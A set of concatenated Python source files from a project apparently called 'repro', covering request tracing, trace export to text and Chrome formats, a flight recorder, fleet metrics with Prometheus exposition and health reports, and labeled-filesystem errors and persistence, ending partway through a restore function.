            return _NULL_SPAN
        if trace.n_spans >= self.max_spans:
            trace.truncated += 1
            self.spans_dropped += 1
            return _NULL_SPAN
        return Span(name, trace, ctx.current, attrs)

    def detail(self, name: str, /, **attrs: Any):
        """Open a child span only on detail-sampled traces.

        Structural spans (:meth:`span`) appear in every trace; detail
        spans ride the same 1-in-``fold_every`` sampling as child
        histogram folds, so the sampled traces carry the fully
        annotated tree while the steady-state request path pays one
        flag check.  The first trace always samples, which is what the
        integration tests and the example lean on.
        """
        ctx = self._context.get()
        if ctx is None or not ctx.fold:
            return _NULL_SPAN
        trace = ctx.trace
        if trace is None:
            return _NULL_SPAN
        if trace.n_spans >= self.max_spans:
            trace.truncated += 1
            self.spans_dropped += 1
            return _NULL_SPAN
        return Span(name, trace, ctx.current, attrs)

    def annotate(self, **attrs: Any) -> None:
        """Attach attributes to whatever span is currently open."""
        current = self.current
        if current is not None:
            current.attrs.update(attrs)

    # ------------------------------------------------------------------
    # context / finalization
    # ------------------------------------------------------------------

    def current_ids(self) -> Optional[tuple[str, int]]:
        """(trace_id, span_id) of the active span, for audit stamping."""
        current = self.current
        if current is None:
            return None
        return (current.trace.trace_id, current.span_id)

    def export_context(self) -> Optional[TraceContext]:
        """The active span as a wire-form :class:`TraceContext` (M16).

        ``None`` outside a trace.  The result is what crosses a shard
        engine or federation link; the far side runs its work under a
        ``RemoteCapture`` window against this context and ships span
        skeletons back for :meth:`graft`.
        """
        ctx = self._context.get()
        if ctx is None:
            return None
        current = ctx.current
        if current is None:
            return None
        return TraceContext(current.trace.trace_id, current.span_id,
                            ctx.fold)

    def graft(self, origin: str, skeleton: dict) -> None:
        """Stitch a remote span skeleton under the current span (M16).

        ``skeleton`` is a ``trace_to_dict`` dump produced on another
        tracer (another shard or federation peer); ``origin`` names
        where it ran (``"shard:2"``, an envelope channel name).  The
        graft is recorded against the *currently open* span and merged
        into the exported tree by ``trace_to_dict`` — the hot span
        close path never sees it.  Outside a trace this is a no-op
        (the skeleton survives in the remote side's own recorder).
        """
        ctx = self._context.get()
        if ctx is None:
            return
        current = ctx.current
        trace = ctx.trace
        if current is None or trace is None:
            return
        grafts = trace.grafts
        if grafts is None:
            grafts = trace.grafts = []
        grafts.append((current.span_id, origin, skeleton))

    # ------------------------------------------------------------------
    # reads
    # ------------------------------------------------------------------

    def latencies(self) -> dict[str, dict[str, float]]:
        """Per-span-name latency stats (count, mean, p50/p95/p99...)."""
        return {name: h.as_dict()
                for name, h in sorted(self._histograms.items())}

    def histogram(self, name: str) -> Optional[LatencyHistogram]:
        return self._histograms.get(name)

    def stats(self) -> dict[str, int]:
        return {
            "traces_started": self.traces_started,
            "traces_finished": self.traces_finished,
            "spans_dropped": self.spans_dropped,
        }


class NullTracer:
    """The tracing-off implementation: every path is a no-op.

    Hot call sites guard with ``if tracer.enabled:`` (one attribute
    load on a shared singleton); cooler per-request sites just do
    ``with tracer.span(...):`` — entering :data:`_NULL_SPAN` costs two
    empty method calls and allocates nothing.
    """

    enabled = False
    current = None
    #: Mirrors ``Tracer._fold`` so hot call sites can guard their
    #: detail-span setup (kwargs, counters) with one attribute load
    #: that is False whenever tracing is off.
    _fold = False
    #: Mirrors ``Tracer._remote`` (always None: nothing to inherit).
    _remote = None

    def request(self, name: str, /, **attrs: Any) -> _NullSpan:
        return _NULL_SPAN

    def span(self, name: str, /, **attrs: Any) -> _NullSpan:
        return _NULL_SPAN

    def detail(self, name: str, /, **attrs: Any) -> _NullSpan:
        return _NULL_SPAN

    def annotate(self, **attrs: Any) -> None:
        pass

    def current_ids(self) -> None:
        return None

    def export_context(self) -> None:
        return None

    def graft(self, origin: str, skeleton: dict) -> None:
        pass

    def latencies(self) -> dict[str, dict[str, float]]:
        return {}

    def histogram(self, name: str) -> None:
        return None

    def stats(self) -> dict[str, int]:
        return {"traces_started": 0, "traces_finished": 0,
                "spans_dropped": 0}


#: Process-wide disabled tracer: the default value of
#: ``Kernel.tracer`` so instrumentation sites never need None checks.
NULL_TRACER = NullTracer()
