"""Trace exporters: dict form, text tree, Chrome trace-event JSON.

Three consumers, one intermediate form.  :func:`trace_to_dict`
flattens a live :class:`~repro.obs.trace.Trace` into plain dicts with
all times in **microseconds relative to the root span's start** —
serializable, diffable in tests, and the input both renderers accept:

* :func:`render_text` — an indented tree for terminals (the
  ``repro.analysis trace`` report and the example script);
* :func:`chrome_trace` — the Chrome trace-event format (JSON object
  with a ``traceEvents`` array of ``"ph": "X"`` complete events),
  loadable in Perfetto or ``chrome://tracing``.  Each trace gets its
  own ``tid`` so concurrent request timelines stack as separate
  tracks; a metadata event names the track after the request.
"""

from __future__ import annotations

import copy
from typing import Any, Iterable, Optional

from .trace import Span, Trace


def _span_to_dict(span: Span, root_start: float) -> dict[str, Any]:
    return {
        "name": span.name,
        "span_id": span.span_id,
        "start_us": round((span.start - root_start) * 1e6, 1),
        "duration_us": round((span.duration or 0.0) * 1e6, 1),
        "status": span.status,
        "attrs": dict(span.attrs),
        "children": [_span_to_dict(c, root_start) for c in span.children],
    }


def trace_to_dict(trace: Trace) -> dict[str, Any]:
    """Serializable span tree; offsets are µs from the root start.

    Remote subtrees grafted onto the trace (M16: shard fan-outs,
    federation envelope application) are merged in as children of the
    span they were grafted under, each tagged with its ``origin`` and
    remote trace id — so the exported tree is the *stitched* causal
    tree, one root per request, spanning every shard and provider the
    request touched.  Remote span and overflow counts fold into
    ``n_spans``/``truncated``: a span dropped on a remote shard is
    counted here, never silently lost.
    """
    root = trace.root
    out = {
        "trace_id": trace.trace_id,
        "name": trace.name,
        "duration_us": round(trace.duration * 1e6, 1),
        "error": trace.error,
        "n_spans": trace.n_spans,
        "truncated": trace.truncated,
        "root": _span_to_dict(root, root.start) if root else None,
    }
    grafts = getattr(trace, "grafts", None)
    if grafts and out["root"] is not None:
        out["grafts"] = len(grafts)
        out["orphan_grafts"] = _merge_grafts(out, grafts)
    return out


def _rebase(span: dict[str, Any], offset_us: float) -> None:
    span["start_us"] = round(span["start_us"] + offset_us, 1)
    for child in span["children"]:
        _rebase(child, offset_us)


def _merge_grafts(doc: dict[str, Any],
                  grafts: list[tuple[int, str, dict]]) -> int:
    """Attach remote skeletons under their local parent spans.

    Grafts are recorded in graft order — the router grafts shard
    skeletons in ascending shard order and each shard's skeletons in
    per-shard execution order, so the stitched children are totally
    ordered like the M13 ``(shard, seq)`` audit merge: deterministic
    run-to-run and engine-to-engine.  A graft whose parent span is
    unknown (budget overflow dropped it) attaches at the root, marked
    ``orphan``; returns the orphan count.  Skeletons are deep-copied —
    the trace may be exported many times (live recorder dumps).
    """
    index: dict[int, dict[str, Any]] = {}
    stack = [doc["root"]]
    while stack:
        span = stack.pop()
        index[span["span_id"]] = span
        stack.extend(span["children"])
    orphans = 0
    for parent_id, origin, skeleton in grafts:
        node = skeleton.get("root")
        if node is None:
            continue
        parent = index.get(parent_id)
        node = copy.deepcopy(node)
        node["attrs"]["origin"] = origin
        node["attrs"]["remote_trace_id"] = skeleton["trace_id"]
        if parent is None:
            parent = doc["root"]
            node["attrs"]["orphan"] = True
            orphans += 1
        # remote offsets are relative to the remote root; rebase onto
        # the local parent's start so the stitched timeline nests
        _rebase(node, parent["start_us"])
        parent["children"].append(node)
        doc["n_spans"] += skeleton.get("n_spans", 0)
        doc["truncated"] += skeleton.get("truncated", 0)
    return orphans


# ----------------------------------------------------------------------
# text tree
# ----------------------------------------------------------------------

def _render_span(span: dict[str, Any], depth: int,
                 lines: list[str]) -> None:
    attrs = " ".join(f"{k}={v}" for k, v in span["attrs"].items())
    flag = " !" if span["status"] == "error" else ""
    lines.append(
        f"{'  ' * depth}{span['name']:<{max(1, 28 - 2 * depth)}} "
        f"{span['duration_us']:>9.1f}us  +{span['start_us']:.1f}us"
        f"{flag}{'  [' + attrs + ']' if attrs else ''}")
    for child in span["children"]:
        _render_span(child, depth + 1, lines)


def render_text(trace: dict[str, Any]) -> str:
    """Indented span tree for one :func:`trace_to_dict` result."""
    header = (f"trace {trace['trace_id']}  {trace['name']}  "
              f"{trace['duration_us']:.1f}us  spans={trace['n_spans']}"
              f"{'  ERROR' if trace['error'] else ''}"
              f"{'  truncated=' + str(trace['truncated']) if trace['truncated'] else ''}")
    lines = [header]
    if trace["root"] is not None:
        _render_span(trace["root"], 0, lines)
    return "\n".join(lines)


# ----------------------------------------------------------------------
# Chrome trace-event JSON
# ----------------------------------------------------------------------

def _chrome_events(span: dict[str, Any], tid: int,
                   events: list[dict[str, Any]]) -> None:
    args = dict(span["attrs"])
    if span["status"] != "ok":
        args["status"] = span["status"]
    events.append({
        "name": span["name"],
        "ph": "X",
        "ts": span["start_us"],
        "dur": span["duration_us"],
        "pid": 1,
        "tid": tid,
        "cat": span["name"].split(".", 1)[0],
        "args": args,
    })
    for child in span["children"]:
        _chrome_events(child, tid, events)


def chrome_trace(traces: Iterable[dict[str, Any]],
                 process_name: str = "w5-provider") -> dict[str, Any]:
    """Chrome trace-event JSON for one or more dict-form traces.

    Returns the object format (``{"traceEvents": [...]}``) so viewers
    that require it and viewers that take the bare array both load it.
    """
    events: list[dict[str, Any]] = [{
        "name": "process_name", "ph": "M", "pid": 1,
        "args": {"name": process_name},
    }]
    for tid, trace in enumerate(traces, start=1):
        events.append({
            "name": "thread_name", "ph": "M", "pid": 1, "tid": tid,
            "args": {"name": f"{trace['name']} ({trace['trace_id']})"},
        })
        if trace["root"] is not None:
            _chrome_events(trace["root"], tid, events)
    return {"traceEvents": events, "displayTimeUnit": "ms"}


def validate_chrome_trace(doc: dict[str, Any]) -> Optional[str]:
    """Cheap structural validation; returns an error string or None.

    Used by the export test and the analysis CLI to guarantee the
    artifact CI uploads actually loads in a trace viewer.
    """
    if not isinstance(doc, dict) or "traceEvents" not in doc:
        return "missing traceEvents"
    for i, ev in enumerate(doc["traceEvents"]):
        if not isinstance(ev, dict):
            return f"event {i} not an object"
        if "ph" not in ev or "name" not in ev or "pid" not in ev:
            return f"event {i} missing ph/name/pid"
        if ev["ph"] == "X":
            if not isinstance(ev.get("ts"), (int, float)):
                return f"event {i} has non-numeric ts"
            if not isinstance(ev.get("dur"), (int, float)):
                return f"event {i} has non-numeric dur"
            if ev["dur"] < 0:
                return f"event {i} has negative dur"
    return None
