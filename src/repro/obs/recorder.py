"""Flight recorder: keep the traces worth looking at, drop the rest.

Recording every trace at production volume is a non-starter (memory
grows with traffic), but the traces an operator actually wants are a
tiny, well-defined subset: the **slowest N** requests (tail-latency
forensics) and **every errored/denied** request (accountability — the
W5 user asking "why was my export refused?" gets the full span tree,
not just an audit line).  The recorder keeps exactly those, in
constant memory:

* slowest-N: a min-heap keyed by duration.  When full, a new trace
  only displaces the current *fastest* kept trace if it is slower —
  one ``heappushpop``, O(log N).
* errors: a bounded ``deque`` — the most recent ``keep_errors``
  error traces, oldest evicted first.

A trace that is both slow and errored lives in both structures;
:meth:`traces` dedups by trace id when reading.
"""

from __future__ import annotations

import heapq
from collections import deque
from typing import Any, Optional

from .export import trace_to_dict
from .trace import Trace


class FlightRecorder:
    """Bounded retention of the slowest and the failed traces."""

    def __init__(self, keep_slowest: int = 16,
                 keep_errors: int = 32) -> None:
        self.keep_slowest = keep_slowest
        self.keep_errors = keep_errors
        # (duration, seq, trace): seq breaks duration ties so heapq
        # never falls back to comparing Trace objects.
        self._slow: list[tuple[float, int, Trace]] = []
        self._errors: deque[Trace] = deque(maxlen=keep_errors)
        self._seq = 0
        self.offered = 0
        self.kept_slow_evictions = 0

    # ------------------------------------------------------------------
    # ingest (Tracer.sink)
    # ------------------------------------------------------------------

    def offer(self, trace: Trace) -> None:
        """Consider a finished trace for retention."""
        self.offered += 1
        self._seq += 1
        if trace.error:
            self._errors.append(trace)
        slow = self._slow
        if len(slow) < self.keep_slowest:
            heapq.heappush(slow, (trace.duration, self._seq, trace))
        elif slow and trace.duration > slow[0][0]:
            heapq.heappushpop(slow, (trace.duration, self._seq, trace))
            self.kept_slow_evictions += 1
        # steady state (heap full, trace not slower) touches nothing
        # but the counters: offer() runs on every traced request

    # ------------------------------------------------------------------
    # reads
    # ------------------------------------------------------------------

    def slowest(self) -> list[Trace]:
        """Kept slow traces, slowest first."""
        return [t for _, _, t in sorted(self._slow, reverse=True)]

    def errors(self) -> list[Trace]:
        """Kept error traces, most recent first."""
        return list(reversed(self._errors))

    def traces(self) -> list[Trace]:
        """Everything kept, deduped (slowest first, then errors)."""
        seen: set[str] = set()
        out: list[Trace] = []
        for trace in self.slowest() + self.errors():
            if trace.trace_id not in seen:
                seen.add(trace.trace_id)
                out.append(trace)
        return out

    def find(self, trace_id: str) -> Optional[Trace]:
        for trace in self.traces():
            if trace.trace_id == trace_id:
                return trace
        return None

    def stats(self) -> dict[str, int]:
        return {
            "offered": self.offered,
            "kept_slow": len(self._slow),
            "kept_errors": len(self._errors),
            "slow_evictions": self.kept_slow_evictions,
        }

    def dump(self) -> dict[str, Any]:
        """Serializable form: feed to ``repro.analysis trace`` or the
        Chrome exporter."""
        return {
            "slowest": [trace_to_dict(t) for t in self.slowest()],
            "errors": [trace_to_dict(t) for t in self.errors()],
            "stats": self.stats(),
        }

    def clear(self) -> None:
        self._slow.clear()
        self._errors.clear()
