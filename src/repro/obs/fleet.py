"""Fleet observability: cross-boundary traces, merged metrics, health.

M11 gave one provider an instrument panel; M13 sharded the request
plane and M15 federated it, and both left observability behind — a
trace died at the shard-RPC boundary, ``trace_report`` was a raw
per-shard broadcast, and no single surface answered "which provider is
unhealthy, how stale is each sync cursor."  This module is the fleet
half of ``repro.obs`` (M16), three coupled pieces:

* **Trace propagation.**  :class:`~repro.obs.trace.TraceContext` is
  the compact wire form of an open span (trace id, parent span id,
  sampling fold).  A boundary crossing exports it on the near side
  (``Tracer.export_context``) and opens a :class:`RemoteCapture`
  window on the far side: every trace the far tracer finishes inside
  the window inherits the fold decision and is collected as a
  ``trace_to_dict`` skeleton (while still reaching the far side's own
  recorder).  The near side stitches the returned skeletons under the
  originating span with ``Tracer.graft``; ``trace_to_dict`` merges
  them into one causal tree, ordered deterministically like the M13
  ``(shard, seq)`` audit merge.  The window wraps the tracer's *sink*,
  not the span close path, so the M11 hot-path budget is untouched.

* **Fleet metrics.**  :class:`FleetRegistry` attaches every member's
  :class:`~repro.core.metrics.Metrics` and exactly-merges audit
  counters and the log2 :class:`~repro.obs.histogram.LatencyHistogram`
  s (bucket-wise addition — merged percentiles equal the percentiles
  of the union of observations).  It renders JSON snapshots, delta
  snapshots between scrapes, and a Prometheus-style text exposition
  (:func:`prometheus_text`, round-trippable through
  :func:`parse_prometheus`).

* **Health.**  :func:`provider_health` derives ok/degraded gauges from
  state every provider already keeps — journal byte lag since the
  last checkpoint, process-pool occupancy, plan-cache hit ratio,
  audit-ring drops — and :func:`fabric_health` rolls per-provider
  states and per-link :class:`~repro.core.journal.JournalCursor`
  staleness into one ``ok``/``degraded``/``down`` report that
  ``FederationFabric.crash`` flips observably.

Everything here is read-side and duck-typed: no imports from the
platform or federation packages, so ``repro.obs`` stays at the bottom
of the dependency graph.
"""

from __future__ import annotations

import re
from collections import Counter
from typing import Any, Iterator, Optional

from .export import trace_to_dict
from .histogram import LatencyHistogram
from .trace import Trace, TraceContext, Tracer

__all__ = [
    "RemoteCapture", "FleetRegistry", "prometheus_text",
    "parse_prometheus", "provider_health", "fabric_health",
    "JOURNAL_LAG_DEGRADED_BYTES",
]

#: Journal bytes accumulated since the last checkpoint before a
#: provider reads ``degraded``: the journal's own auto-compaction
#: threshold is 1 MiB, so lag past it means compaction is overdue
#: (checkpointing stalled or writes are outrunning it).
JOURNAL_LAG_DEGRADED_BYTES = 1 << 20


# ----------------------------------------------------------------------
# trace propagation
# ----------------------------------------------------------------------

class RemoteCapture:
    """Collect traces finished on a tracer while serving a remote parent.

    The far-side half of cross-boundary tracing: the shard worker (or
    the federation link's destination provider) enters this window
    with the near side's exported :class:`TraceContext` before running
    the shipped work.  Inside the window:

    * new root traces inherit the context's ``fold`` decision (the
      sampling choice travels with the request), and
    * every finished trace is serialized to a skeleton dict and
      appended to :attr:`skeletons` — *in addition to* reaching the
      tracer's normal sink, so the far side's own flight recorder
      still sees its local view.

    The wrap happens at the sink (once per finished trace), never on
    the span close path, and is fully undone on exit — nested windows
    restore correctly.  Skeletons are plain picklable dicts: they ride
    the fork engine's pipe and the thread engine's result boxes as-is.
    """

    __slots__ = ("tracer", "ctx", "skeletons", "_saved_sink",
                 "_saved_remote")

    def __init__(self, tracer: Tracer, ctx: TraceContext) -> None:
        self.tracer = tracer
        self.ctx = ctx
        self.skeletons: list[dict[str, Any]] = []

    def __enter__(self) -> "RemoteCapture":
        tracer = self.tracer
        self._saved_sink = tracer.sink
        self._saved_remote = tracer._remote
        tracer._remote = self.ctx
        tracer.sink = self._offer
        return self

    def _offer(self, trace: Trace) -> None:
        self.skeletons.append(trace_to_dict(trace))
        saved = self._saved_sink
        if saved is not None:
            saved(trace)

    def __exit__(self, *exc: Any) -> None:
        tracer = self.tracer
        tracer.sink = self._saved_sink
        tracer._remote = self._saved_remote


# ----------------------------------------------------------------------
# fleet metrics registry
# ----------------------------------------------------------------------

class FleetRegistry:
    """Merged counters and histograms across a fleet of Metrics.

    Attach one :class:`~repro.core.metrics.Metrics` per member (a
    shard, a provider, a gateway tier); reads merge on demand —
    counters by addition, latency histograms bucket-exactly — so the
    fleet view never goes stale and members never synchronize.  Reads
    are safe from any thread (dict/counter reads under the GIL);
    members keep ingesting on their own workers.

    Health sources (anything with a ``health_report()`` — a
    ``ShardedProvider``, a ``FederationFabric``) attach separately via
    :meth:`attach_health` and are folded into :meth:`health_report`.
    """

    def __init__(self) -> None:
        #: member name -> Metrics (insertion-ordered; reads sort).
        self._members: dict[str, Any] = {}
        self._health_sources: dict[str, Any] = {}
        #: Scrape state for :meth:`delta_snapshot`.
        self._last_counters: dict[str, int] = {}
        self._last_observations: dict[str, int] = {}

    # -- membership --------------------------------------------------------

    def attach(self, name: str, metrics: Any) -> "FleetRegistry":
        """Register a member's Metrics under ``name``; chains."""
        self._members[name] = metrics
        return self

    def attach_health(self, name: str, source: Any) -> "FleetRegistry":
        """Register a health source (duck-typed on ``health_report``)."""
        self._health_sources[name] = source
        return self

    def members(self) -> list[str]:
        return sorted(self._members)

    def _sorted_members(self) -> Iterator[tuple[str, Any]]:
        for name in sorted(self._members):
            yield name, self._members[name]

    # -- merged reads ------------------------------------------------------

    def merged_counts(self) -> Counter:
        """Audit counters summed across members, keyed
        ``(category, allowed)``."""
        merged: Counter = Counter()
        for _, metrics in self._sorted_members():
            merged.update(metrics.category_counts())
        return merged

    def merged_latency(self) -> dict[str, LatencyHistogram]:
        """Per-category latency histograms merged bucket-exactly.

        The merge is exact (bucket-wise addition), so percentiles read
        from the result equal percentiles of a histogram fed the union
        of every member's observations — the property test in
        ``tests/obs/test_fleet.py`` pins this.
        """
        merged: dict[str, LatencyHistogram] = {}
        for _, metrics in self._sorted_members():
            for category, hist in metrics.latency_histograms().items():
                acc = merged.get(category)
                if acc is None:
                    acc = merged[category] = LatencyHistogram()
                acc.merge(hist)
        return merged

    def _flat_counters(self) -> dict[str, int]:
        out: dict[str, int] = {}
        for (category, allowed), n in sorted(self.merged_counts().items()):
            out[f"{category}.{'allow' if allowed else 'deny'}"] = n
        return out

    # -- snapshots ---------------------------------------------------------

    def snapshot(self) -> dict[str, Any]:
        """The full merged view, JSON-serializable: the input of
        ``python -m repro.analysis metrics`` and
        :func:`prometheus_text`."""
        return {
            "members": self.members(),
            "counters": self._flat_counters(),
            "latency": {category: hist.snapshot()
                        for category, hist
                        in sorted(self.merged_latency().items())},
            "per_member": {name: metrics.snapshot()
                           for name, metrics in self._sorted_members()},
        }

    def delta_snapshot(self) -> dict[str, Any]:
        """Counters and observation counts since the previous scrape.

        Every call advances the scrape point.  Counters are monotonic,
        so the delta is a plain subtraction; zero-delta keys are
        dropped.  Histogram shapes don't subtract meaningfully (the
        buckets do, but a scraper wants rates), so latency reports the
        per-category observation-count delta.
        """
        counters = self._flat_counters()
        observations = {category: hist.count
                        for category, hist in self.merged_latency().items()}
        delta = {
            "counters": {k: v - self._last_counters.get(k, 0)
                         for k, v in sorted(counters.items())
                         if v != self._last_counters.get(k, 0)},
            "observations": {k: v - self._last_observations.get(k, 0)
                             for k, v in sorted(observations.items())
                             if v != self._last_observations.get(k, 0)},
        }
        self._last_counters = counters
        self._last_observations = observations
        return delta

    def prometheus(self, prefix: str = "w5") -> str:
        """The merged view as Prometheus text exposition."""
        return prometheus_text(self.snapshot(), prefix=prefix)

    # -- health ------------------------------------------------------------

    def health_report(self) -> dict[str, Any]:
        """Every attached health source's report, rolled up: the
        overall state is the worst member state."""
        sources = {name: source.health_report()
                   for name, source in sorted(self._health_sources.items())}
        return {"state": _worst(r.get("state", "ok")
                               for r in sources.values()),
                "sources": sources}


# ----------------------------------------------------------------------
# Prometheus text exposition
# ----------------------------------------------------------------------

def _bucket_le(index: int) -> str:
    """The upper edge of log2 bucket ``index`` in seconds."""
    return repr((1 << (index + 1)) * 1e-9)


def prometheus_text(snapshot: dict[str, Any], prefix: str = "w5") -> str:
    """Render a :meth:`FleetRegistry.snapshot` as Prometheus text.

    Counters become ``{prefix}_audit_total{category=...,verdict=...}``;
    merged latency histograms become the standard cumulative-bucket
    triplet (``_bucket``/``_sum``/``_count``) with ``le`` edges at the
    log2 bucket boundaries.  Output is deterministic (sorted) and
    round-trips through :func:`parse_prometheus`.
    """
    lines: list[str] = []
    lines.append(f"# TYPE {prefix}_members gauge")
    lines.append(f"{prefix}_members {len(snapshot.get('members', []))}")
    counters = snapshot.get("counters", {})
    if counters:
        lines.append(f"# TYPE {prefix}_audit_total counter")
        for key, n in sorted(counters.items()):
            category, verdict = key.rsplit(".", 1)
            lines.append(
                f'{prefix}_audit_total{{category="{category}",'
                f'verdict="{verdict}"}} {n}')
    latency = snapshot.get("latency", {})
    if latency:
        name = f"{prefix}_flow_latency_seconds"
        lines.append(f"# TYPE {name} histogram")
        for category, snap in sorted(latency.items()):
            cumulative = 0
            buckets = snap.get("buckets") or {}
            for index in sorted(int(i) for i in buckets):
                cumulative += int(buckets[str(index)]
                                  if str(index) in buckets
                                  else buckets[index])
                lines.append(
                    f'{name}_bucket{{category="{category}",'
                    f'le="{_bucket_le(index)}"}} {cumulative}')
            lines.append(f'{name}_bucket{{category="{category}",'
                         f'le="+Inf"}} {snap.get("count", cumulative)}')
            lines.append(f'{name}_sum{{category="{category}"}} '
                         f'{snap.get("total_s", 0.0)!r}')
            lines.append(f'{name}_count{{category="{category}"}} '
                         f'{snap.get("count", cumulative)}')
    return "\n".join(lines) + "\n"


_LABEL_RE = re.compile(r'(\w+)="([^"]*)"')


def parse_prometheus(text: str) -> dict[tuple[str, tuple], float]:
    """Parse text exposition back into samples.

    Keys are ``(metric_name, sorted_label_items)``; values are floats.
    A deliberately small parser — enough for the round-trip test and
    for reading our own output back in tooling, not a general client.
    """
    samples: dict[tuple[str, tuple], float] = {}
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        if "{" in line:
            name, rest = line.split("{", 1)
            labels_raw, value = rest.rsplit("} ", 1)
            labels = tuple(sorted(_LABEL_RE.findall(labels_raw)))
        else:
            name, value = line.rsplit(" ", 1)
            labels = ()
        samples[(name, labels)] = float(value)
    return samples


# ----------------------------------------------------------------------
# health model
# ----------------------------------------------------------------------

def _worst(states: Any) -> str:
    rank = {"ok": 0, "degraded": 1, "down": 2}
    worst = 0
    for state in states:
        # an unrecognized state is suspect, never better than degraded
        worst = max(worst, rank.get(state, 1))
    return ("ok", "degraded", "down")[worst]


def provider_health(provider: Any,
                    journal_lag_limit: int = JOURNAL_LAG_DEGRADED_BYTES
                    ) -> dict[str, Any]:
    """One provider's gauges + readiness, from state it already keeps.

    Gauges: journal bytes since the last checkpoint (lag — ``None``
    without a durability manager), process-pool occupancy (idle
    processes + reuse counters), plan-cache hit ratio, audit-ring drop
    count.  ``degraded`` when journal lag exceeds ``journal_lag_limit``
    (compaction overdue) or the audit ring has dropped events (the
    accountability record is no longer complete); ``down`` never
    originates here — only a fabric knows a provider is unreachable.
    """
    kernel = provider.kernel
    manager = provider._durability
    journal_lag = (None if manager is None
                   else manager.journal.stats()["size_bytes"])
    plans = provider.plans.stats()
    decided = plans.get("hits", 0) + plans.get("misses", 0)
    pool = kernel.pool.stats()
    gauges: dict[str, Any] = {
        "journal_lag_bytes": journal_lag,
        "pool_idle": pool.get("idle", 0),
        "pool_reuses": pool.get("reuses", 0),
        "plan_cache_hit_ratio": (plans.get("hits", 0) / decided
                                 if decided else None),
        "audit_dropped": kernel.audit.dropped,
    }
    reasons: list[str] = []
    if journal_lag is not None and journal_lag > journal_lag_limit:
        reasons.append(f"journal lag {journal_lag}B exceeds "
                       f"{journal_lag_limit}B (compaction overdue)")
    if kernel.audit.dropped:
        reasons.append(f"audit ring dropped {kernel.audit.dropped} events")
    return {"state": "degraded" if reasons else "ok",
            "reasons": reasons, "gauges": gauges}


def fabric_health(fabric: Any) -> dict[str, Any]:
    """A federation fabric's rolled-up readiness (M16).

    Per provider: ``down`` when crashed (its ring slot is None),
    otherwise :func:`provider_health`.  Per link: ``degraded`` while a
    peer is down or any linked user's :class:`JournalCursor` is stale
    (``None`` lag — first sync pending, or invalidated by crash
    recovery / checkpoint / compaction), since the mirror may be
    arbitrarily behind until the next sync round re-attaches cursors.
    The fabric state is the worst of all of it — ``crash()`` flips it
    to ``down`` observably, ``recover()`` plus one sync round brings
    it back to ``ok``.
    """
    providers: dict[str, dict[str, Any]] = {}
    for index, provider in enumerate(fabric.providers):
        name = f"provider:{index}"
        if provider is None:
            providers[name] = {"state": "down", "reasons": ["crashed"],
                               "gauges": {}}
        else:
            providers[name] = provider_health(provider)
    links: dict[str, dict[str, Any]] = {}
    for (i, j), link in sorted(fabric._links.items()):
        reasons = []
        if fabric.providers[i] is None or fabric.providers[j] is None:
            reasons.append("peer down")
        lag: dict[str, Any] = {}
        delta = getattr(link, "_delta", None)
        if delta is not None:
            lag = delta.cursor_lag()
            for username, sides in sorted(lag.items()):
                stale = sorted(side for side, value in sides.items()
                               if value is None)
                if stale:
                    reasons.append(
                        f"stale cursor for {username!r} "
                        f"(side {'/'.join(stale)}): full recon pending")
        links[f"link:{i}<->{j}"] = {
            "state": "degraded" if reasons else "ok",
            "reasons": reasons,
            "cursor_lag": lag,
        }
    state = _worst([r["state"] for r in providers.values()]
                   + [r["state"] for r in links.values()])
    return {"state": state, "providers": providers, "links": links}
