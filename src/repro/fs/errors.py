"""Filesystem errors, rooted in the unified :mod:`repro.errors` tree."""

from __future__ import annotations

from ..errors import NotFound, W5Error


class FsError(W5Error):
    """Base class for filesystem failures unrelated to labels."""


class NoSuchPath(FsError, NotFound):
    """Path does not exist."""


class PathExists(FsError):
    """Attempt to create something that already exists."""


class NotADirectory(FsError):
    """A path component that must be a directory is a file."""


class IsADirectory(FsError):
    """A file operation was attempted on a directory."""
