"""Filesystem errors."""

from __future__ import annotations


class FsError(Exception):
    """Base class for filesystem failures unrelated to labels."""


class NoSuchPath(FsError):
    """Path does not exist."""


class PathExists(FsError):
    """Attempt to create something that already exists."""


class NotADirectory(FsError):
    """A path component that must be a directory is a file."""


class IsADirectory(FsError):
    """A file operation was attempted on a directory."""
