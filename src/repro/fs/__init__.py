"""Labeled filesystem: persistent storage under the flow rules."""

from .errors import (FsError, IsADirectory, NoSuchPath, NotADirectory,
                     PathExists)
from .filesystem import (Directory, File, FsView, Inode, LabeledFileSystem,
                         split_path)
from .persist import (merge_fs_delta, restore_fs, snapshot_fs,
                      snapshot_fs_delta)

__all__ = [
    "FsError", "IsADirectory", "NoSuchPath", "NotADirectory", "PathExists",
    "Directory", "File", "FsView", "Inode", "LabeledFileSystem", "split_path",
    "merge_fs_delta", "restore_fs", "snapshot_fs", "snapshot_fs_delta",
]
