"""Filesystem persistence: snapshot and restore with labels intact.

A W5 provider restarts; its users' data — and the labels guarding it —
must come back exactly.  ``snapshot_fs`` walks the whole tree with
*no* label checks (it is the provider's cold-storage path, the same
trust level as the disk itself) and emits a JSON-able structure;
``restore_fs`` rebuilds the tree inside a kernel whose tag registry
was restored from the matching snapshot, so every label resolves to
the identical tag and every access decision after the restart matches
the decision before it (tested in ``tests/fs/test_persist.py``).

Payloads must be JSON-representable for the snapshot to be written to
a real disk; arbitrary Python objects round-trip in memory.
"""

from __future__ import annotations

from typing import Any

from ..kernel import Kernel
from ..labels import Label, TagRegistry, label_from_dict, label_to_dict
from .filesystem import Directory, File, Inode, LabeledFileSystem


def snapshot_fs(fs: LabeledFileSystem) -> dict[str, Any]:
    """Serialize the whole tree (provider cold-storage path)."""
    namespace = fs.kernel.tags.namespace
    return {"namespace": namespace,
            "root": _snapshot_node(fs.root, namespace)}


def _snapshot_node(node: Inode, namespace: str) -> dict[str, Any]:
    common = {
        "name": node.name,
        "slabel": label_to_dict(node.slabel, namespace),
        "ilabel": label_to_dict(node.ilabel, namespace),
        "created_by": node.created_by,
    }
    if isinstance(node, Directory):
        common["kind"] = "dir"
        common["entries"] = {
            name: _snapshot_node(child, namespace)
            for name, child in sorted(node.entries.items())}
    else:
        assert isinstance(node, File)
        common["kind"] = "file"
        common["data"] = node.data
        common["version"] = node.version
    return common


def restore_fs(kernel: Kernel, snapshot: dict[str, Any],
               grouped_walk: bool = True) -> LabeledFileSystem:
    """Rebuild a filesystem from a snapshot inside ``kernel``.

    ``kernel.tags`` must already hold the snapshot's tags (restore the
    registry first with :meth:`TagRegistry.import_state`); labels from
    a different namespace are mapped through foreign import, exactly
    like federation transfers.
    """
    fs = LabeledFileSystem(kernel, grouped_walk=grouped_walk)
    root_data = snapshot["root"]
